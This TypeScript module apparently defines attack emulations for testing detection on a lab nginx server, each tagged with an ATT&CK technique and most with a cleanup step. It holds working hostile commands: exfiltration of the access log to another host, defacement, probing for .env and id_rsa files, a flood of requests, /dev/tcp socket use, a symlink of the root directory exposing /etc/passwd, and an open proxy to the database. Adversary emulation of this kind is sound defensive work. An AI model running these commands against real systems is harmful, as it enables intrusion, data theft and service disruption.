import type { Attack } from './attack.ts';

const SITE = '/etc/nginx/conf.d/shop.conf';

const inWeb = (
  id: string,
  technique: string,
  title: string,
  act: Attack['act'],
  more: Partial<Attack> = {},
): Attack => ({
  id,
  technique,
  title,
  entry: 'exec',
  shows: ['web'],
  act,
  ...more,
});

/** What is done to the web server, and what visitors do to it. */
export const WEB_ATTACKS: readonly Attack[] = [
  inWeb(
    'web-log-exfiltration',
    'T1020',
    'makes the server send its access log to another machine',
    async ({ exec, plant, read }) => {
      plant('web', `${SITE}.kept`, read('web', SITE));
      plant('web', SITE, `access_log syslog:server=10.89.0.13:5514;\n${read('web', SITE)}`);
      const done = await exec('web', ['nginx', '-s', 'reload']);
      await new Promise((resolve) => setTimeout(resolve, 25_000));
      return done;
    },
    {
      entry: 'supply',
      after: async ({ exec, plant, read }) => {
        plant('web', SITE, read('web', `${SITE}.kept`));
        await exec('web', ['nginx', '-s', 'reload']);
      },
    },
  ),
  inWeb(
    'web-defacement',
    'T1491.002',
    'overwrites the first page of the site',
    ({ sh }) =>
      sh('web', 'cp /srv/www/index.html /srv/www/.kept; echo "<h1>hacked</h1>" > /srv/www/index.html; sleep 1'),
    { after: ({ sh }) => sh('web', 'mv /srv/www/.kept /srv/www/index.html') },
  ),
  inWeb(
    'web-forced-browsing',
    'T1595.003',
    'tries names of hidden pages, twenty a second',
    ({ sh }) =>
      sh(
        'visitors',
        'for name in admin backup config .git/config .env db.sql wp-login.php phpmyadmin old test api.bak id_rsa; do ' +
          'for end in "" .zip .bak .old .php .tar.gz .sql .swp; do curl -s -o /dev/null "http://web/$name$end"; sleep 0.1; done; done',
      ),
    { entry: 'service' },
  ),
  inWeb(
    'web-hoarding',
    'T1499.002',
    'fetches the largest file without a pause',
    ({ sh }) =>
      sh(
        'visitors',
        'end=$(($(date +%s) + 20)); while [ $(date +%s) -lt $end ]; do curl -s -o /dev/null http://web/200.bin; done',
      ),
    { entry: 'service' },
  ),
  inWeb('web-shell-socket', 'T1095', 'speaks to an allowed peer through /dev/tcp of the shell', ({ exec }) =>
    exec('web', [
      'bash',
      '-c',
      'for i in 1 2 3; do exec 3<>/dev/tcp/10.89.0.13/8080; printf "GET /healthz HTTP/1.0\\r\\n\\r\\n" >&3; read -r line <&3; exec 3>&-; sleep 4; done',
    ]),
  ),
  inWeb(
    'web-built-ins',
    'T1083',
    'looks around with built-ins of the shell alone, so that no program starts',
    ({ exec }) =>
      exec('web', [
        'bash',
        '-c',
        'for f in /etc/nginx/*.conf /etc/nginx/conf.d/* /etc/ssl/certs/*; do read -r line <"$f"; done; echo /srv/*/* /home/*; sleep 1',
      ]),
  ),
  inWeb(
    'web-link-escape',
    'T1083',
    'links the root of the system into the site and reads it by the browser',
    async ({ sh }) => {
      await sh('web', 'ln -sfn / /srv/www/x');
      return await sh(
        'visitors',
        'for f in etc/passwd etc/nginx/nginx.conf etc/hostname proc/self/status; do curl -s -o /dev/null http://web/x/$f; done; sleep 1',
      );
    },
    { after: ({ sh }) => sh('web', 'rm /srv/www/x') },
  ),
  inWeb(
    'web-open-proxy',
    'T1090',
    'adds a page that passes on to the database host',
    async ({ exec, plant, read, sh }) => {
      plant('web', `${SITE}.kept`, read('web', SITE));
      plant(
        'web',
        SITE,
        read('web', SITE).replace(
          'location /api/',
          'location /x/ { proxy_pass http://10.89.0.11:5432/; }\n  location /api/',
        ),
      );
      await exec('web', ['nginx', '-s', 'reload']);
      return await sh('visitors', 'for i in 1 2 3 4 5; do curl -s -o /dev/null http://web/x/; sleep 2; done; true');
    },
    {
      entry: 'supply',
      touches: ['db'],
      after: async ({ exec, plant, read }) => {
        plant('web', SITE, read('web', `${SITE}.kept`));
        await exec('web', ['nginx', '-s', 'reload']);
      },
    },
  ),
];
